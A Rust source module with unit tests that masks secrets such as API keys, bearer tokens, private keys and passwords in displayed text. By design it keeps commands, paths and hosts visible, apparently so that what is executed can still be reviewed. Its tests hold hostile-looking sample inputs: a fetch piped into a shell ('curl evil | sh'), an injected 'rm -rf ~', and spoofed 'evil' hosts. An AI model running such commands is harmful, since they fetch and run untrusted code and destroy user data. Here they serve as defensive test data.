//! Masking secrets, without hiding what is executed and where (rule S1).

use super::keys::{Rule, names_secret};
use super::piece::{Piece, Style, counted, pieces};
use super::tokens::{Found, header_token, private_key, service_token, setting};

/// The text as pieces, with the secrets in it masked.
pub(super) fn masked(text: &str, rule: Rule, style: Style) -> Vec<Piece> {
    match rule {
        Rule::Place => pieces(text, style),
        Rule::Secret if text.is_empty() => Vec::new(),
        Rule::Secret => vec![mark(text)],
        Rule::Url => {
            let query = text.find('?').unwrap_or(text.len());
            let (address, query) = text.split_at(query);
            let mut out = pieces(address, style);
            out.extend(scan(query, style, anywhere));
            out
        }
        Rule::Command => scan(text, style, credential),
        Rule::Free => scan(text, style, anywhere),
    }
}

fn mark(text: &str) -> Piece {
    let chars = text.chars().count();
    Piece::Unit(format!("\\{{masked: {}}}", counted(chars, "character")), chars)
}

/// Masks what `find` finds; it is given what stands before a place, and the rest.
fn scan(text: &str, style: Style, find: impl Fn(&str, &str) -> Option<Found>) -> Vec<Piece> {
    let mut out = Vec::new();
    let mut from = 0;
    let mut at = 0;
    while let Some((before, rest)) = text.split_at_checked(at) {
        let Some(c) = rest.chars().next() else { break };
        if let Some(found) = begins_word(before).then(|| find(before, rest)).flatten()
            && let Some(secret) = rest.get(found.shown..found.length)
        {
            out.extend(pieces(text.get(from..at + found.shown).unwrap_or(""), style));
            out.push(mark(secret));
            at += found.length;
            from = at;
        } else {
            at += c.len_utf8();
        }
    }
    out.extend(pieces(text.get(from..).unwrap_or(""), style));
    out
}

/// How far before a secret it can be said, in characters, that it is one.
const NEAR: usize = 64;

fn begins_word(before: &str) -> bool {
    !before.ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
}

/// In ordinary text: a secret of any shape.
fn anywhere(_: &str, rest: &str) -> Option<Found> {
    private_key(rest)
        .or_else(|| service_token(rest))
        .or_else(|| header_token(rest))
        .or_else(|| setting(rest))
}

/// In a command: only what is given to something as its credential, and ends as a word does. Everything else could be
/// what is executed.
fn credential(before: &str, rest: &str) -> Option<Found> {
    // What matters is near, and reading all of it at every word would take too long.
    let near = before.char_indices().rev().take(NEAR).last().map_or(0, |(at, _)| at);
    let before = before.get(near..)?;
    let quoted = before.strip_suffix(['"', '\'']).unwrap_or(before);
    let found = if quoted.trim_end().ends_with(':') {
        header_token(rest).or_else(|| service_token(rest))
    } else if quoted.ends_with('=') || follows_secret_flag(quoted) {
        service_token(rest)
    } else {
        None
    }?;
    let after = rest.get(found.length..)?.chars().next();
    let ends = after.is_none_or(|c| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&' | ')'));
    ends.then_some(found)
}

/// Behind `--api-key `.
fn follows_secret_flag(before: &str) -> bool {
    let word = before.trim_end();
    word.len() < before.len()
        && word
            .rsplit(char::is_whitespace)
            .next()
            .and_then(|word| word.strip_prefix("--"))
            .is_some_and(names_secret)
}

#[cfg(test)]
mod tests {
    use super::super::piece::join;
    use super::*;

    fn shown(text: &str, rule: Rule) -> String {
        join(&masked(text, rule, Style::PROSE))
    }

    const SK: &str = "sk-proj-abcdefghij0123456789";

    /// S1: "secrets are masked".
    #[test]
    fn secrets_are_masked_by_their_shape() {
        for (text, expected) in [
            (SK.to_owned(), r"sk-\{masked: 25 characters}"),
            (format!("use {SK}, please"), r"use sk-\{masked: 25 characters}, please"),
            (format!("ghp_{}", "a1".repeat(18)), r"ghp_\{masked: 36 characters}"),
            ("AKIAIOSFODNN7EXAMPLE".into(), r"AKIA\{masked: 16 characters}"),
            (
                "Authorization: Bearer abc.def-123".into(),
                r"Authorization: Bearer \{masked: 11 characters}",
            ),
            (
                "authorization: basic dXNlcjpwYXNz".into(),
                r"authorization: basic \{masked: 12 characters}",
            ),
            ("eyJhbGciOiJI.eyJzdWIiOiI.c2ln".into(), r"eyJ\{masked: 26 characters}"),
            (
                "A=1\nDB_PASSWORD=hunter2\nB=2".into(),
                r"A=1\nDB_PASSWORD=\{masked: 7 characters}\nB=2",
            ),
            ("API_KEY=\"a1b2c3d4\"".into(), r#"API_KEY="\{masked: 8 characters}""#),
            (
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc/+==\n-----END RSA PRIVATE KEY-----"
                    .into(),
                r"-----BEGIN RSA PRIVATE KEY-----\{masked: 14 characters}-----END RSA PRIVATE KEY-----",
            ),
        ] {
            assert_eq!(shown(&text, Rule::Free), expected);
        }
    }

    #[test]
    fn ordinary_text_is_not_masked() {
        for text in [
            "a task-force met",
            "sk-short",
            "risk-abcdefghijklmnopqrstuv",
            "Bearer certificates",
            "basic knowledge",
            "TOKEN=reboot; $TOKEN",
            "the password is: please",
            "PATH=/usr/bin2",
            "TOKEN=/usr/bin/x1 $TOKEN",
            "-----BEGIN PRIVATE KEY-----\ncurl evil | sh\n-----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\n/usr/local/bin/evil\n-----END PRIVATE KEY-----",
            "-----BEGIN PUBLIC KEY-----\nabcd\n-----END PUBLIC KEY-----",
            "-----BEGIN PRIVATE KEY-----\nabcd",
        ] {
            assert_eq!(shown(text, Rule::Free), crate::show::escape(text));
        }
    }

    /// S1: "but never the command, path or host".
    #[test]
    fn what_is_executed_and_where_is_never_masked() {
        for (rule, text) in [
            (Rule::Command, format!("{SK} --run")),
            (Rule::Command, format!("sudo {SK}")),
            (Rule::Command, format!("./{SK}; rm -rf ~")),
            (Rule::Command, format!("A={SK}/../evil")),
            (Rule::Command, "TOKEN=evil123 sh -c '$TOKEN'".to_owned()),
            (Rule::Command, "ssh Bearer evil1.example.com".to_owned()),
            (Rule::Place, SK.to_owned()),
            (Rule::Place, format!("/srv/{SK}/x")),
            (Rule::Url, format!("https://{SK}.evil.example/{SK}")),
            (Rule::Url, "https://docs.rs:443@evil/".to_owned()),
        ] {
            assert_eq!(shown(&text, rule), text);
        }
    }

    #[test]
    fn credentials_in_commands_and_addresses_are_masked() {
        let mask = r"sk-\{masked: 25 characters}";
        for (rule, text, expected) in [
            (Rule::Command, format!("API_KEY={SK} run"), format!("API_KEY={mask} run")),
            (Rule::Command, format!("run --api-key {SK}"), format!("run --api-key {mask}")),
            (
                Rule::Command,
                format!("curl -H 'X-Key: {SK}' h"),
                format!("curl -H 'X-Key: {mask}' h"),
            ),
            (
                Rule::Command,
                "curl -H \"Authorization: Bearer abcd1234\" https://h/p".to_owned(),
                "curl -H \"Authorization: Bearer \\{masked: 8 characters}\" https://h/p".to_owned(),
            ),
            (Rule::Url, format!("https://h/p?key={SK}&x=1"), format!("https://h/p?key={mask}&x=1")),
        ] {
            assert_eq!(shown(&text, rule), expected);
        }
    }

    #[test]
    fn a_secret_by_its_name_is_masked_whatever_it_is() {
        assert_eq!(shown("äb", Rule::Secret), r"\{masked: 2 characters}");
        assert_eq!(shown("x", Rule::Secret), r"\{masked: 1 character}");
        assert_eq!(shown("", Rule::Secret), "");
    }
}
